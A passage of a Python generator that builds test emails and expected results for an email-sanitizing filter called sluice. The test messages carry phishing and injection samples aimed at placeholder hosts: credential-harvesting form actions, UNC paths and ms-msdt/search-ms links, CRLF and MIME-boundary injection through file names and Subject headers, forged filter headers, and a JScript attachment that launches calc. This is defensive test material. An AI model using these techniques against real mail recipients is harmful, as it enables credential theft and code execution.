        attach("invite.ics", bad_ics, "text/calendar; method=REQUEST")], False, """
        # an .ics file cannot be edited in place: url_in_attachment removes it
        verdict: rewrite
        finding: url 2
        rule: url_in_attachment 2
        url: malicious malware.invalid/agenda/q1-review.html
        url: malicious malware.invalid/event/118
        removed: 2
        kept: 1""")

    # ---- a text/calendar body part: edited in place --------------------------
    i = nxt()
    cal = ics("Join the call: https://phishing.test/meet/q1-review?pwd=7731 (video).",
              "https://calendar.example/event/118")
    ent = multipart("mixed", [
        multipart("alternative", [
            text("Mark Ellison invites you to: Quarterly review, 11 March 09:00 UTC.\n"),
            E([("Content-Type", "text/calendar; charset=utf-8; method=REQUEST"),
               ("Content-Transfer-Encoding", "8bit")], cal)], "=_alt_url_calendar_body"),
        invoice()], "=_sluice_url_calendar_body_%04d" % i)
    case("url_calendar_body", False, top("url_calendar_body", i, "en", "Invitation: Quarterly review", ent), """
        # the invitation stays an invitation: the link (folded across two lines) is
        # replaced inside its DESCRIPTION, the rest of the calendar is as it was
        verdict: rewrite
        finding: url 1.2
        url: malicious phishing.test/meet/q1-review?pwd=7731
        url: unknown calendar.example/event/118
        absent: https://phishing.test/meet
        absent: phishing.test/meet
        present: BEGIN:VCALENDAR
        present: URL:https://calendar.example/event/118
        present: ORGANIZER;CN=Mark Ellison:mailto:mark.ellison@customer.example
        kept: 1.1
        kept: 2""")

    # ---- an SVG attachment linking to a blocklisted host ---------------------
    svg = ('<?xml version="1.0" encoding="UTF-8"?>\n'
           '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
           'width="400" height="120">\n<rect width="400" height="120" fill="#eee"/>\n'
           '<a xlink:href="https://phishing.test/doc/view?id=118"><text x="20" y="60">'
           'Open the shared document</text></a>\n</svg>\n').encode()
    mixed("url_svg_attachment", "de", "Dokument freigegeben", [
        text(T["de_delivery"]),
        attach("Dokument.svg", svg, "image/svg+xml")], True, """
        # an SVG image opens in a browser, its links live: the file is removed
        verdict: rewrite
        finding: url 2
        rule: url_in_attachment 2
        url: malicious phishing.test/doc/view?id=118
        removed: 2
        kept: 1""")

    # ---- srcset, CSS url(), formaction ----------------------------------------
    mixed("url_html_srcset", "en", "Your photos", [
        text(html_doc('<p>Your photos are ready.</p>\n'
                      '<p><img src="https://cdn.images.example/p/1.jpg" '
                      'srcset="https://cdn.images.example/p/1.jpg 1x, https://malware.invalid/p/1@2x.jpg 2x" '
                      'alt="photo"></p>'), "html"),
        invoice()], False, """
        # a srcset candidate loads like src: the blocklisted one is disarmed, the other kept
        verdict: rewrite
        finding: url 1
        url: malicious malware.invalid/p/1@2x.jpg
        url: unknown cdn.images.example/p/1.jpg
        absent: malware.invalid
        present: https://cdn.images.example/p/1.jpg 1x
        present: Your photos are ready.
        kept: 2""")

    mixed("url_html_css", "en", "Newsletter", [
        text(html_doc('<div style="background:url(&quot;https://malware.invalid/bg.png&quot;) no-repeat;'
                      'padding:20px">Spring offers</div>',
                      head='<style>@import "https://phishing.test/track.css";\n'
                           '.logo{background-image:url(https://cdn.images.example/logo.png)}</style>'),
             "html"),
        invoice()], True, """
        # CSS loads: url() in a style attribute, @import in <style>
        verdict: rewrite
        finding: url 1
        url: malicious malware.invalid/bg.png
        url: malicious phishing.test/track.css
        url: unknown cdn.images.example/logo.png
        absent: malware.invalid
        absent: phishing.test
        present: url(https://cdn.images.example/logo.png)
        present: Spring offers</div>
        kept: 2""")

    mixed("url_html_formaction", "en", "Confirm your order", [
        text(html_doc('<form action="https://shop.example/confirm" method="post">\n'
                      '<input name="order" value="2024-118">\n'
                      '<button type="submit" formaction="https://credential-harvest.example/collect">'
                      'Confirm</button>\n</form>'), "html"),
        invoice()], False, """
        # the button posts elsewhere than the form: its formaction is disarmed
        verdict: rewrite
        finding: url 1
        url: malicious credential-harvest.example/collect
        url: unknown shop.example/confirm
        absent: https://credential-harvest.example/collect
        present: formaction="#"
        present: action="https://shop.example/confirm"
        kept: 2""")

    # ---- <base href> and relative links; scheme-relative links ---------------
    mixed("url_html_base_relative", "en", "Sign in", [
        text(html_doc('<p>Your session expired. <a href="login?next=inbox">Sign in again</a>.</p>',
                      head='<base href="https://phishing.test/portal/">'), "html"),
        invoice()], True, """
        # "login?next=inbox" goes where the base says: https://phishing.test/portal/login?next=inbox
        verdict: rewrite
        finding: url 1
        url: malicious phishing.test/portal/login?next=inbox
        absent: https://phishing.test/portal/
        present: href="#"
        present: Sign in again</a>
        kept: 2""")

    mixed("url_html_scheme_relative", "en", "Track your parcel", [
        text(html_doc('<p><a href="//malware.invalid/track?id=5521">Track your parcel</a></p>'), "html"),
        invoice()], False, """
        # a scheme-relative link takes the page's scheme: it goes to malware.invalid
        verdict: rewrite
        finding: url 1
        url: malicious malware.invalid/track?id=5521
        absent: //malware.invalid/track
        present: href="#"
        present: Track your parcel</a>
        kept: 2""")

    # ---- UNC path and non-web schemes ---------------------------------------------
    mixed("url_unc_text", "en", "Shared folder", [
        text("Hi,\n\nthe documents are on our file server: \\\\phishing.test\\share\\Invoice_118.lnk\n"
             "If that does not open, try \\\\phishing.test@SSL\\DavWWWRoot\\Invoice_118.url\n\nMark\n"),
        invoice()], True, """
        # Outlook opens UNC paths typed in text (and sends the reader's Windows credentials)
        verdict: rewrite
        finding: url 1
        url: malicious phishing.test
        absent: \\\\phishing.test\\share
        absent: \\\\phishing.test@SSL
        present: the documents are on our file server:
        kept: 2""")

    mixed("url_search_ms", "en", "Your documents", [
        alt_pair("url_search_ms",
                 "Open your documents: search-ms:query=Invoice&crumb=location:\\\\phishing.test\\docs\n"
                 "Trouble? Run ms-msdt:/id PCWDiagnostic /skip force\n",
                 html_doc('<p><a href="search-ms:query=Invoice&amp;crumb=location:\\\\phishing.test\\docs'
                          '&amp;displayname=Documents">Open your documents</a></p>\n'
                          '<p><a href="ms-msdt:/id PCWDiagnostic /skip force /param &quot;IT_BrowseForFile=x&quot;">'
                          'Fix the problem</a> or <a href="ms-word:ofe|u|https://phishing.test/d/118.docx">edit</a>'
                          '</p>'))], False, """
        # search-ms:, ms-msdt: and ms-word: open Windows programs; they must be found in
        # text and in hrefs (how they are judged is urlnorm's and reputation's business)
        verdict: clean|rewrite|quarantine
        url: unknown|suspicious|malicious search-ms:query=Invoice&crumb=location:\\\\phishing.test\\docs&displayname
        url: unknown|suspicious|malicious search-ms:query=Invoice&crumb=location:\\\\phishing.test\\docs
        url: unknown|suspicious|malicious ms-msdt:/id PCWDiagnostic /skip force /param
        url: unknown|suspicious|malicious ms-msdt:/id
        url: unknown|suspicious|malicious ms-word:ofe|u|https://phishing.test/d/118.docx""")

    # ---- clean controls ------------------------------------------------------------
    clean = """
        verdict: clean
        nofinding: url
        nofinding: structure
        nofinding: limit
        identical: yes"""

    i = nxt()
    body = ['<table width="600" style="border-collapse:collapse;background:url(https://cdn.mailer.example/img/bg.png)">',
            '<tr><td><img src="https://cdn.mailer.example/img/header.jpg" '
            'srcset="https://cdn.mailer.example/img/header.jpg 1x, https://cdn.mailer.example/img/header@2x.jpg 2x" '
            'width="600" alt="Spring (new)"></td></tr>']
    for k, item in enumerate(["Alpine Trail Jacket", "Harbor Rain Boots", "Summit Day Pack"]):
        body.append('<tr><td style="padding:8px;color:rgb(20,20,20);font-family:Arial,sans-serif">'
                    '<a href="https://click.mailer.example/c/%d" style="color:#0a5">%s</a> from 49.99 EUR'
                    '</td></tr>' % (k, item))
    body.append('<tr><td background="https://cdn.mailer.example/img/footer.png">'
                '<a href="https://shop.example/unsubscribe">Unsubscribe</a></td></tr></table>')
    html = html_doc("\n".join(body), head='<style>@import url("https://fonts.mailer.example/css?family=Inter");'
                    '\n.btn{background:#06c url(https://cdn.mailer.example/img/btn.png)}</style>')
    ent = multipart("alternative", [text("Spring collection: https://shop.example/spring\n"),
                                    text(html, "html", cte="quoted-printable")],
                    "=_alt_url_clean_newsletter_css_%04d" % i)
    case("url_clean_newsletter_css", True, top("url_clean_newsletter_css", i, "en", "Spring collection",
                                               ent, extra=[("List-Unsubscribe", "<https://shop.example/u/1>")]),
         clean + """
        # images, srcset, CSS backgrounds and @import, table backgrounds: all found, none bad
        url: unknown cdn.mailer.example/img/header@2x.jpg
        url: unknown cdn.mailer.example/img/bg.png
        url: unknown fonts.mailer.example/css?family=Inter
        url: unknown cdn.mailer.example/img/btn.png
        url: unknown cdn.mailer.example/img/footer.png""")

    i = nxt()
    cal = ics("Agenda and minutes: https://intranet.customer.example/meetings/q1-review\\, dial-in "
              "+44 20 7946 0018.", "https://calendar.example/event/118")
    ent = multipart("mixed", [
        multipart("alternative", [
            text("Mark Ellison invites you to: Quarterly review, 11 March 09:00 UTC.\n"),
            E([("Content-Type", "text/calendar; charset=utf-8; method=REQUEST"),
               ("Content-Transfer-Encoding", "8bit")], cal)], "=_alt_url_clean_calendar"),
        attach("invite.ics", cal, "text/calendar; method=REQUEST")],
        "=_sluice_url_clean_calendar_%04d" % i)
    case("url_clean_calendar", False, top("url_clean_calendar", i, "en", "Invitation: Quarterly review", ent),
         clean + """
        # an ordinary invitation: body part and .ics file read, nothing bad, nothing changed
        url: unknown intranet.customer.example/meetings/q1-review
        url: unknown calendar.example/event/118""")

    mixed("url_clean_flowed", "fr", "Suivi de commande", [
        flowed("Bonjour,\n\nle suivi de votre commande : https://suivi.transporteur.example/colis/ \n"
               "5521?ref=2024-118 \net la facture est jointe.\n\nCordialement,\n\u00c9lodie\n", False)],
        False, clean + """
        # format=flowed without delsp: the blank before the soft break stays, so the link
        # ends there for a reader too
        url: unknown suivi.transporteur.example/colis/""")


# --------------------------------------------------------------------------
# what sluice writes (issue 10): notices, placeholders, X-Sluice-* headers
# --------------------------------------------------------------------------

def rfc2231_split(s, size=40):
    """filename*0*=UTF-8''...; filename*1*=...: RFC 2231 continuations."""
    from urllib.parse import quote
    enc = quote(s.encode("utf-8"), safe="")
    chunks, i = [], 0
    while i < len(enc):
        j = min(i + size, len(enc))
        while j < len(enc) and enc[j - 1] != "%" and enc[j - 2:j - 1] == "%":
            j += 1  # never split a %XX escape
        while "%" in enc[max(i, j - 2):j]:
            j -= 1
        chunks.append(enc[i:j])
        i = j
    return ";\n ".join("filename*%d*=%s%s" % (n, "UTF-8''" if n == 0 else "", c) for n, c in enumerate(chunks))


def build_written_cases():
    # ---- a file name that carries line breaks, a boundary and a part ---------
    i = nxt()
    bnd = "=_sluice_inject_filename_crlf_%04d" % i
    name = ("statement\r\n--%s\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
            "<p><a href=\"https://credential-harvest.example/sso\">Sign in to view</a></p>\r\n"
            "--%s--\r\n.js" % (bnd, bnd))
    ent = multipart("mixed", [
        text(T["en_complaint"]),
        E([("Content-Type", "application/octet-stream"),
           ("Content-Disposition", "attachment;\n " + rfc2231_split(name)),
           ("Content-Transfer-Encoding", "base64")],
          b64(b'var sh = new ActiveXObject("WScript.Shell");\r\nsh.Run("calc");\r\n'))], bnd)
    case("inject_filename_crlf", False, top("inject_filename_crlf", i, "en", "Statement", ent), """
        # RFC 2231 continuations decode to a name with CR LF, the message's own
        # boundary, an HTML part with a blocklisted link and ".js": the notice
        # shows the name on one line, escaped; the output has parts 1 and 2 only
        verdict: rewrite
        finding: filetype|filename 2
        removed: 2
        kept: 1
        absent: <a href=
        absent: https://credential-harvest.example/sso
        present: statement[U+000D][U+000A]-
        present: credential-harvest[.]example""")

    # ---- a removed file whose name is a blocklisted host ----------------------
    mixed("notice_name_is_host", "de", "Lieferschein", [
        text(T["de_delivery"]),
        attach("login.phishing.test.scr", PE)], True, """
        # the notice names the file: defanged, so that no client links it
        verdict: rewrite
        finding: filetype|filename 2
        removed: 2
        kept: 1
        absent: login.phishing.test
        present: login[.]phishing[.]test[.]scr""")

    # ---- a header block that never ends: the placeholder copies none of it ---
    i = nxt()
    raw = hdr_block("inject_placeholder_no_blank_line", i, "fr", "Facture",
                    b"Content-Type: text/plain; charset=utf-8\n"
                    b"<html><body><p>Votre facture : <a href=\"http://malware.invalid/facture\">ouvrir</a></p>\n"
                    b"--=_fake_boundary\n"
                    b"Content-Type: application/octet-stream; name=\"facture.cmd\"\n"
                    b"</body></html>\n")
    case("inject_placeholder_no_blank_line", False, raw, """
        # no blank line after the header block: the lines after the fields are
        # invalid header lines (structure); the placeholder is built from the
        # parsed From, To, Subject, Date, Message-ID, not from copied lines,
        # and the findings name the invalid lines by offset, not by content
        verdict: quarantine
        finding: structure
        absent: <a href
        absent: malware
        absent: name="facture.cmd"
        present: sluice held this message for review
        present: invalid header name at byte""")

    # ---- finding details and header fields in the placeholder ----------------
    i = nxt()
    evil = "zdjecie\n--=_sluice_inject_placeholder\nContent-Type: text/html\n\n<script>location='https://phishing.test/'</script>.js"
    ent = multipart("mixed", [
        text(T["pl_complaint"]),
        attach("zdjecie.js", b'WScript.Echo("sluice corpus test");\r\n', "application/octet-stream",
               name_param="name=\"%s\"" % rfc2047(evil), disp_param="filename=\"%s\"" % rfc2047(evil)),
        E([("Content-Type", "text/plain; charset=utf-8"), ("Content-Type", "text/html; charset=utf-8")],
          b"<p>dwie wersje</p>\n")], "=_sluice_inject_placeholder")
    case("inject_placeholder_details", True,
         top("inject_placeholder_details", i, "pl",
             rfc2047("Reklamacja\r\nBcc: all@contact-center.example\r\n\r\nhttps://phishing.test/r"), ent), """
        # part 3 has two Content-Type headers (structure: quarantine); the RFC 2047
        # name of the script in part 2 and the Subject carry line breaks, markup
        # and a blocklisted link: the placeholder shows them escaped and defanged
        verdict: quarantine
        finding: structure 3
        finding: filetype|filename 2
        absent: <script>
        absent: https://phishing.test/
        present: zdjecie[U+000A]-
        present: phishing[.]test""")

    # ---- a sender's own X-Sluice-* header fields ------------------------------
    i = nxt()
    ent = text(T["pt_invoice"])
    case("forged_sluice_headers_clean", False,
         top("forged_sluice_headers_clean", i, "pt", "Fatura",
             ent, extra=[("X-Sluice-Verdict", "clean (SL-0000000000000000)"),
                         ("X-Sluice-Removed", "nothing")]), """
        # a clean message reaches the agent without the sender's X-Sluice-* fields,
        # and otherwise byte for byte
        verdict: clean
        identical: except-own-headers
        absent: SL-0000000000000000
        absent: X-Sluice-Removed""")
    mixed("forged_sluice_headers_rewrite", "es", "Factura", [
        text(T["es_invoice"]), attach("factura.exe", PE)], False, """
        # the sender's "X-Sluice-Verdict: clean" does not stand beside ours
        verdict: rewrite
        removed: 2
        kept: 1
        absent: X-Sluice-Verdict: clean
        absent: SL-0000000000000000""",
        extra=[("X-Sluice-Verdict", "clean (SL-0000000000000000)")])

    # ---- iframe and img src on the blocklist ----------------------------------
    mixed("url_src_blocklisted", "en", "Your statement", [
        text(html_doc('<p>Your statement is ready.</p>\n'
                      '<iframe src="https://phishing.test/statement" width="600" height="400"></iframe>\n'
                      '<img src=https://malware.invalid/open.gif width="1" height="1" alt="">'), "html"),
        invoice()], True, """
        # a frame and a tracking image from blocklisted hosts: "defang" must change
        # something: both src emptied, the rest of the tags kept
        verdict: rewrite
        rule: url_malicious 1
        url: malicious phishing.test/statement
        url: malicious malware.invalid/open.gif
        absent: https://phishing.test/statement
        absent: https://malware.invalid/open.gif
        present: <iframe src="" title="Content blocked by sluice:
        present: width="600" height="400"
        present: <img src="" title=
        kept: 2""")


README_NOTE = "generated by tests/data/gen_corpus.py: edit the generator, not this file\n"


def outputs():
    build_cases()
    files = {}
    for name, raw, exp in CASES:
        files[os.path.join(EMAIL_DIR, name + ".eml")] = raw
        files[os.path.join(EMAIL_DIR, name + ".expect")] = ("# " + README_NOTE + exp).encode()
    for name, data in HTML_SAMPLES.items():
        files[os.path.join(PAYLOAD_DIR, "html", name)] = data.encode()
    for name, data in BINARY_PAYLOADS.items():
        files[os.path.join(PAYLOAD_DIR, name)] = data
    for name, data in DOCS_PAYLOADS.items():
        files[os.path.join(PAYLOAD_DIR, "docs", name)] = data
    limits = {"bomb.pdf": docs_bomb_pdf()}
    limits.update(docs_office_limits())
    for name, data in limits.items():
        files[os.path.join(PAYLOAD_DIR, "docs-limits", name)] = data
    return files


def main():
    check = "--check" in sys.argv[1:]
    bad = 0
    files = outputs()
    for path, data in sorted(files.items()):
        if check:
            try:
                with open(path, "rb") as f:
                    same = f.read() == data
            except OSError:
                same = False
            if not same:
                print("differs: " + os.path.relpath(path, HERE))
                bad += 1
            continue
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
    if not check:
        total = sum(len(d) for d in files.values())
        print("wrote %d files, %.1f MB" % (len(files), total / 1e6))
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())

